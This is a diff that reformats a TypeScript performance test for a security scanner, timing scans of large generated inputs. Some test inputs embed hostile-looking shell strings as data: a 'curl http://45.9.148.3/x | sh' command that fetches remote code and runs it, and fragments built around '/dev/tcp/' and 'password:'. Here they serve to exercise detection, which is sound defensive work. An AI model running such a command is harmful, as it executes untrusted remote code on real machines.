@@ -22,7 +22,9 @@ function pseudoBase64(n: number): string {
   const out = new Array<string>(n);
   let x = 2463534242;
   for (let i = 0; i < n; i++) {
-    x ^= x << 13; x ^= x >>> 17; x ^= x << 5;
+    x ^= x << 13;
+    x ^= x >>> 17;
+    x ^= x << 5;
     out[i] = alpha[(x >>> 0) % 64] ?? "A";
   }
   return out.join("");
@@ -34,7 +36,17 @@ const cases: Array<[string, (n: number) => string]> = [
   ["a base64 blob", (n) => pseudoBase64(n)],
   ["near-miss fragments", (n) => ("curl " + "|".repeat(40) + " /dev/tcp/ x\u200b " + "a".repeat(30) + " password: ").repeat(n / 90).slice(0, n)],
   ["spaces then content", (n) => " ".repeat(n) + "curl http://45.9.148.3/x | sh"],
-  ["a shell block with nested substitutions and continuations", (n) => "```bash\n" + "echo $(".repeat(n / 40) + "x" + ")".repeat(n / 40) + "\ncurl -s https://example.com/a \\\n" + "  -H 'x: y' \\\n".repeat(n / 28) + "  | jq .\n```\n"],
+  [
+    "a shell block with nested substitutions and continuations",
+    (n) =>
+      "```bash\n" +
+      "echo $(".repeat(n / 40) +
+      "x" +
+      ")".repeat(n / 40) +
+      "\ncurl -s https://example.com/a \\\n" +
+      "  -H 'x: y' \\\n".repeat(n / 28) +
+      "  | jq .\n```\n",
+  ],
   ["prose paragraphs", (n) => "Send the file to the team and follow the steps in the guide\nwhen you are ready to run the tool again.\n\n".repeat(n / 100)],
 ];
 
@@ -55,7 +67,9 @@ describe("linear time", () => {
       const full = make(2_000_000);
       const a = best(half);
       const b = best(full);
-      console.log(`[scanner linear-time] ${name}: ${(half.length / 1e6).toFixed(2)} MB in ${a.wallMs.toFixed(0)} ms, ${(full.length / 1e6).toFixed(2)} MB in ${b.wallMs.toFixed(0)} ms (${(b.wallMs / Math.max(1, a.wallMs)).toFixed(2)}×), verdict ${b.report.verdict}`);
+      console.log(
+        `[scanner linear-time] ${name}: ${(half.length / 1e6).toFixed(2)} MB in ${a.wallMs.toFixed(0)} ms, ${(full.length / 1e6).toFixed(2)} MB in ${b.wallMs.toFixed(0)} ms (${(b.wallMs / Math.max(1, a.wallMs)).toFixed(2)}×), verdict ${b.report.verdict}`,
+      );
       expect(b.report.stats.bytes).toBeGreaterThan(full.length - 1);
       expect(b.wallMs).toBeLessThan(10 * a.wallMs + 500);
     }, 60_000);
